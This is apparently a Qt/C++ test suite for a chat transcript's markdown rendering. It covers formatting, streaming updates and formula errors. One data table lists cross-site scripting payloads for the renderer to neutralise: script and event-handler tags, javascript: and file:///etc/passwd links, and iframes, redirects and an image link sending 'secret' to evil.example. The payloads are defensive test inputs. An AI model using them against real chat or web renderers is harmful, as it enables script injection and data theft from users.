// How the page of the transcript renders the text of a message, whatever it contains.

#include "tests/support/shown_chat.h"
#include "ui/chat_view.h"
#include "ui/transcript_role.h"

#include <QApplication>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QStandardItemModel>
#include <QTest>
#include <QWebEnginePage>

using tests::kPatience;
using tests::message;
using tests::ShownChat;
using ui::Author;
using ui::MessageState;

class tst_ChatMarkdown : public QObject
{
    Q_OBJECT

private:
    tests::SharedChat m_chat;

private slots:
    void cleanupTestCase() { m_chat.close(); }

    void formatsMarkdown_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("selector");
        QTest::addColumn<QString>("content");
        const auto row = [](const char* name, const char* text, const char* selector,
                            const char* content) {
            QTest::newRow(name) << QString::fromUtf8(text) << QString::fromUtf8(selector)
                                << QString::fromUtf8(content);
        };
        row("heading", "## A *b*", ".markdown h2 em", "b");
        row("table", "|a|b|\n|-|-|\n|1|2|", ".table td:nth-child(2)", "2");
        row("strike", "~~no~~", ".markdown s", "no");
        row("task", "- [x] done", "li.task", "☑ done");
        row("link", "[a](https://example.org/x)", "a[href=\"https://example.org/x\"]", "a");
        row("bare link", "see https://example.org/y.", "a[href=\"https://example.org/y\"]",
            "https://example.org/y");
        row("reference", "[a][r]\n\n[r]: https://example.org/z", "a[href$=\"/z\"]", "a");
        row("chinese", "**“重点”**是这个 🎉", ".markdown strong", "“重点”");
        row("language", "```cpp\nint a;\n```", ".code .language", "cpp");
        row("colour", "```cpp\nint a;\n```", ".code .hljs-type", "int");
        row("unknown language", "```nosuch\na < b\n```", ".code code", "a < b\n");
        row("runnable", "```html\n<p>\n```", ".code button[data-action=run]", "Run");
        row("bare page", "Here:\n<!DOCTYPE html>\n<html>\n\n<p>x\n</html>\nThere.",
            ".code .language", "html");
        row("text after a bare page", "<html>\n<p>x\n</html>\nThere.", ".markdown > p", "There.");
        row("inline formula", "so $a^2$ is", ".markdown p .katex annotation", "a^2");
        row("displayed formula", "$$\na\n\n+b\n$$", ".katex-display annotation", "a\n\n+b");
        row("round brackets", "so \\(x_1\\) is", ".katex annotation", "x_1");
        row("square brackets", "so\n\\[x_1\\]\nis", ".katex-display annotation", "x_1");
        row("dollars", "between $5 and $10 only", ".markdown p", "between $5 and $10 only");
        row("a wrong formula", "$\\nosuch{$", ".markdown p .katex-error", "\\nosuch{");
    }

    void formatsMarkdown()
    {
        QFETCH(const QString, text);
        QFETCH(const QString, selector);
        QFETCH(const QString, content);
        ShownChat& shown = m_chat.fresh();
        QVERIFY(shown.answer(text));
        const QString found =
            shown.ask(QStringLiteral("document.querySelector(`%1`)?.textContent").arg(selector))
                .toString();
        QVERIFY2(found == content,
                 qPrintable(found + QLatin1String(" in ")
                            + shown.ask(QStringLiteral("document.querySelector('.body').innerHTML"))
                                  .toString()));
    }

    // However the text arrives, the document is the one of the whole text.
    void growsToTheSameDocument()
    {
        const QString text = QStringLiteral(
            "# Head\n\nSome *text* with $x$ and [a link][r].\n\n- one\n- two\n\n  more\n\n"
            "```html\n<p>a &amp; b</p>\n\n<b>c</b>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "> quote\nlazy\n\n1. x\n   ```js\n   let y = 1;\n   ```\n\n$$\nz\n$$\n\nend\n\n"
            "[r]: https://example.org\n");
        const auto bodyOf = QStringLiteral("document.querySelector('.body').innerHTML");
        ShownChat whole;
        QVERIFY(whole.answer(text));
        ShownChat growing;
        QStandardItem* item = message(Author::Assistant, {}, 7);
        item->setData(int(MessageState::Running), ui::StateRole);
        growing.model.appendRow(item);
        growing.view.setModel(&growing.model);
        QVERIFY(growing.has("article.running"));
        for (int length = 3; length < text.size() + 3; length += 3) {
            item->setData(text.left(length), ui::TextRole);
            if (length % 30 == 0) // now and then the page keeps up
                growing.ask(QStringLiteral("0"));
        }
        item->setData(int(MessageState::Answered), ui::StateRole);
        QVERIFY(growing.has("article.answered"));
        QCOMPARE(growing.ask(bodyOf).toString(), whole.ask(bodyOf).toString());
        QCOMPARE(growing.count("figure.code"), 2);
    }

    void leavesCompleteBlocksAloneWhileTheTextGrows()
    {
        ShownChat& shown = m_chat.fresh();
        QStandardItem* item = message(Author::Assistant, QStringLiteral("first\n\nsecond"), 7);
        item->setData(int(MessageState::Running), ui::StateRole);
        shown.model.appendRow(item);
        shown.view.setModel(&shown.model);
        QVERIFY(shown.shows(QStringLiteral("second")));
        shown.ask(QStringLiteral("document.querySelector('.body p').dataset.same = 'yes'"));
        item->setData(QStringLiteral("first\n\nsecond\n\nthird"), ui::TextRole);
        QVERIFY(shown.shows(QStringLiteral("third")));
        QCOMPARE(shown.text(".body p[data-same=yes]"), QStringLiteral("first"));
    }

    void showsAFormulaThatIsNestedTooDeepAsItsSource()
    {
        ShownChat& shown = m_chat.fresh();
        QVERIFY(shown.answer(QStringLiteral("x")));
        shown.markPage();
        const QString nested(3000, u'{');
        shown.model.appendRow(
            message(Author::Assistant, QStringLiteral("so $%1$ is").arg(nested), 8));
        shown.model.appendRow(message(Author::Assistant, QStringLiteral("**behind**"), 9));
        QVERIFY(shown.has("strong"));
        QVERIFY(shown.shows(QStringLiteral("so ")));
        QVERIFY(shown.text(".katex-error").startsWith(QStringLiteral("{{{")));
        QVERIFY(shown.isSamePage());
    }

    void showsAMessageThatCannotBeRenderedAsItWasWritten()
    {
        ShownChat shown;
        QVERIFY(shown.answer(QStringLiteral("before")));
        shown.markPage();
        shown.ask(QStringLiteral(
            "DocumentFragment.prototype.querySelectorAll = () => { throw Error('test'); }"));
        QStandardItem* item = message(Author::Assistant, QStringLiteral("**as"), 8);
        item->setData(int(MessageState::Running), ui::StateRole);
        shown.model.appendRow(item);
        QVERIFY(shown.shows(QStringLiteral("**as")));
        item->setData(QStringLiteral("**as written**"), ui::TextRole);
        QVERIFY(shown.shows(QStringLiteral("**as written**")));
        QVERIFY(shown.isSamePage());
    }

    void showsHostileTextAsText_data()
    {
        QTest::addColumn<QString>("text");
        for (const char* text :
             {"<img src=x onerror=\"document.title='owned'\">",
              "<script>document.title='owned'</script>", "<svg onload=\"document.title='owned'\">",
              "[x](javascript:document.title='owned')", "<javascript:document.title='owned'>",
              "[x](data:text/html,<script>alert(1)</script>)", "[x](file:///etc/passwd)",
              "[x](java&#115;cript:document.title='owned')", "![x](https://evil.example/?q=secret)",
              "![x](file:///etc/passwd)", "<iframe src=\"https://evil.example\"></iframe>",
              "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
              "```html\" onmouseover=\"document.title='owned'\n<p>\n```",
              "$\\href{javascript:document.title='owned'}{x}$",
              "$\\includegraphics{https://evil.example/x.png}$", "$\\htmlStyle{position:fixed}{x}$",
              "</div></article><b>out</b>", "<style>*{display:none}</style>",
              "<form action=https://evil.example><button>"})
            QTest::newRow(text) << QString::fromLatin1(text);
    }

    void showsHostileTextAsText()
    {
        QFETCH(const QString, text);
        ShownChat& shown = m_chat.fresh();
        QVERIFY(shown.answer(text + QStringLiteral("\n\n**end**")));
        QCOMPARE(shown.text(".body strong"), QStringLiteral("end"));
        shown.ask(QStringLiteral("document.querySelectorAll('.body *').forEach(e => {"
                                 "e.dispatchEvent(new Event('mouseover')); })"));
        QCOMPARE(shown.ask(QStringLiteral("document.title")).toString(), QString());
        QCOMPARE(shown.count(".body img, .body script, .body iframe, .body style, .body meta, "
                             ".body form, .body input, .body b"),
                 0);
        // No attribute that runs, and no address but of the web.
        const QString bad = QStringLiteral(
            "[...document.querySelectorAll('.body *')].flatMap(e => [...e.attributes])"
            ".filter(a => a.name.startsWith('on') || (/^(src|href|action)$/.test(a.name)"
            " && !/^https?:/.test(a.value))).map(a => a.name + '=' + a.value).join()");
        QCOMPARE(shown.ask(bad).toString(), QString());
        QCOMPARE(shown
                     .ask(QStringLiteral("performance.getEntriesByType('resource')"
                                         ".filter(e => !e.name.startsWith('qrc:')).length"))
                     .toInt(),
                 0);
    }

    void showsAPictureByItsAddress()
    {
        ShownChat& shown = m_chat.fresh();
        QVERIFY(shown.answer(QStringLiteral("![a cat](https://example.org/cat.png)")));
        QCOMPARE(shown.text(".picture"),
                 QStringLiteral("Picture, not loaded: a cat https://example.org/cat.png"));
    }

    void cannotReachTheNetworkOrAFile()
    {
        ShownChat& shown = m_chat.fresh();
        QVERIFY(shown.answer(QStringLiteral("x")));
        QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("Content Security")));
        shown.ask(QStringLiteral("document.title = '';"
                                 "fetch('http://127.0.0.1:9/').then(() => document.title = 'in',"
                                 " () => document.title = 'refused')"));
        QTRY_COMPARE_WITH_TIMEOUT(shown.ask(QStringLiteral("document.title")).toString(),
                                  QStringLiteral("refused"), kPatience);
        QSignalSpy url(shown.view.page(), &QWebEnginePage::urlChanged);
        shown.ask(QStringLiteral("location.href = 'file:///etc/passwd'"));
        shown.ask(QStringLiteral("location.href = 'http://127.0.0.1:9/'"));
        QVERIFY(shown.shows(QStringLiteral("x")));
        QCOMPARE(shown.view.page()->url(), QUrl(QStringLiteral("qrc:/chat/chat.html")));
    }
};

int main(int argc, char** argv)
{
    QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates));
    QApplication application(argc, argv);
    tst_ChatMarkdown test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_chat_markdown.moc"
